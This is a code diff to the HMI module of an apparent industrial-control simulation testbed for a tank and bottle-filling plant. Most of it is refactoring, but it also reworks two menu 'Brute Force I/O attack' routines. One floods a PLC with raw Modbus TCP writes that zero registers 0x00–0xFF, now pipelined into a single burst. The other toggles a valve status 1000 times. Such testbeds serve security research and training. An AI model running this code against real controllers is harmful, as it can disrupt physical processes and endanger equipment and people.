@@ -1,29 +1,44 @@
-import logging
-import os
-import sys
-import time
 import socket
 import struct
 
 from ics_sim.Device import HMI
 from Configs import TAG, Controllers
 
+MODBUS_WRITE_REGISTER_STRUCT = struct.Struct('>HHHBBHH')    # TransID, ProtocolID, Length, UnitID, Command, Reference, Data
+
 
 class HMI2(HMI):
     def __init__(self):
         super().__init__('HMI2', TAG.TAG_LIST, Controllers.PLCs)
 
+        plc1 = Controllers.PLCs[1]
+        self.__plc1_address = (plc1['ip'], plc1['port'])
+
+        self.__choice_tags = {
+            1: TAG.TAG_TANK_LEVEL_MIN,
+            2: TAG.TAG_TANK_LEVEL_MAX,
+            3: TAG.TAG_BOTTLE_LEVEL_MAX,
+            4: TAG.TAG_TANK_INPUT_VALVE_MODE,
+            5: TAG.TAG_TANK_OUTPUT_VALVE_MODE,
+            6: TAG.TAG_CONVEYOR_BELT_ENGINE_MODE,
+        }
+        self.__choice_attacks = {
+            7: self._attack_case1,
+            8: self._attack_case2,
+        }
+
+        self.__menu = '\n'
+        self.__menu += self.__menu_line(1, 'empty level of tank')
+        self.__menu += self.__menu_line(2, 'full level of tank')
+        self.__menu += self.__menu_line(3, 'full level of bottle')
+        self.__menu += self.__menu_line(4, 'status of tank Input valve')
+        self.__menu += self.__menu_line(5, 'status of tank output valve')
+        self.__menu += self.__menu_line(6, 'status of conveyor belt engine')
+        self.__menu += self.__menu_line(7, 'execute Brute Force I/O attack (case 1)')
+        self.__menu += self.__menu_line(8, 'execute Brute Force I/O attack (case 2)')
+
     def _display(self):
-        menu = '\n'
-        menu += self.__menu_line(1, 'empty level of tank')
-        menu += self.__menu_line(2, 'full level of tank')
-        menu += self.__menu_line(3, 'full level of bottle')
-        menu += self.__menu_line(4, 'status of tank Input valve')
-        menu += self.__menu_line(5, 'status of tank output valve')
-        menu += self.__menu_line(6, 'status of conveyor belt engine')
-        menu += self.__menu_line(7, 'execute Brute Force I/O attack (case 1)')
-        menu += self.__menu_line(8, 'execute Brute Force I/O attack (case 2)')
-        self.report(menu)
+        self.report(self.__menu)
 
     def __menu_line(self, number, text):
         return '{} To change the {} press {} \n'.format(
@@ -36,26 +51,11 @@ class HMI2(HMI):
         try:
             input1, input2 = self.__get_choice()
 
-            if input1 == 7:
-                self._attack_case1()
-                return
-            elif input1 == 8:
-                self._attack_case2()
+            if input1 in self.__choice_attacks:
+                self.__choice_attacks[input1]()
                 return
 
-            # Original behavior
-            if input1 == 1:
-                self._send(TAG.TAG_TANK_LEVEL_MIN, input2)
-            elif input1 == 2:
-                self._send(TAG.TAG_TANK_LEVEL_MAX, input2)
-            elif input1 == 3:
-                self._send(TAG.TAG_BOTTLE_LEVEL_MAX, input2)
-            elif input1 == 4:
-                self._send(TAG.TAG_TANK_INPUT_VALVE_MODE, input2)
-            elif input1 == 5:
-                self._send(TAG.TAG_TANK_OUTPUT_VALVE_MODE, input2)
-            elif input1 == 6:
-                self._send(TAG.TAG_CONVEYOR_BELT_ENGINE_MODE, input2)
+            self._send(self.__choice_tags[input1], input2)
 
         except ValueError as e:
             self.report(str(e))
@@ -91,34 +91,46 @@ class HMI2(HMI):
 
     def _attack_case1(self):
         # Raw Modbus TCP brute force: write 0 to registers 0x00-0xFF
-        plc1 = Controllers.PLCs.get(1)
-        ip = plc1['ip']
-        port = plc1['port']
         self.report(
             "Starting Brute Force I/O attack - Case 1: Writing registers 0x00 through 0xFF to zero via raw Modbus TCP."
         )
         sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         sock.settimeout(2)
-        sock.connect((ip, port))
+        sock.connect(self.__plc1_address)
 
         transaction_id = 0
         unit_id = 1  # PLC unit ID
         function_code = 6  # Write single register
 
+        # pipeline the writes: pack every frame into one buffer and send it in a single call
+        frame_size = MODBUS_WRITE_REGISTER_STRUCT.size
+        frames = bytearray(frame_size * 0x100)
         for reg in range(0x00, 0x100):
             transaction_id = (transaction_id + 1) % 0x10000
-            frame = struct.pack(
-                '>HHHBBHH',
+            MODBUS_WRITE_REGISTER_STRUCT.pack_into(
+                frames, reg * frame_size,
                 transaction_id, 0, 6,
                 unit_id, function_code,
                 reg, 0
             )
-            try:
-                sock.sendall(frame)
-                sock.recv(12)
-            except Exception:
-                pass
-            time.sleep(0.1)
+
+        try:
+            sock.sendall(frames)
+        except Exception:
+            pass
+
+        # write single register replies echo the request, drain them into one preallocated buffer
+        responses = memoryview(bytearray(len(frames)))
+        received = 0
+        try:
+            while received < len(responses):
+                n = sock.recv_into(responses[received:])
+                if n == 0:
+                    break
+                received += n
+        except Exception:
+            pass
 
         sock.close()
 
@@ -128,9 +140,11 @@ class HMI2(HMI):
         )
         for _ in range(1000):
             self._send(TAG.TAG_TANK_INPUT_VALVE_STATUS, 1)
-            time.sleep(0.1)
+            if self.stop_event.wait(0.1):
+                break
             self._send(TAG.TAG_TANK_INPUT_VALVE_STATUS, 0)
-            time.sleep(0.1)
+            if self.stop_event.wait(0.1):
+                break
 
 
 if __name__ == '__main__':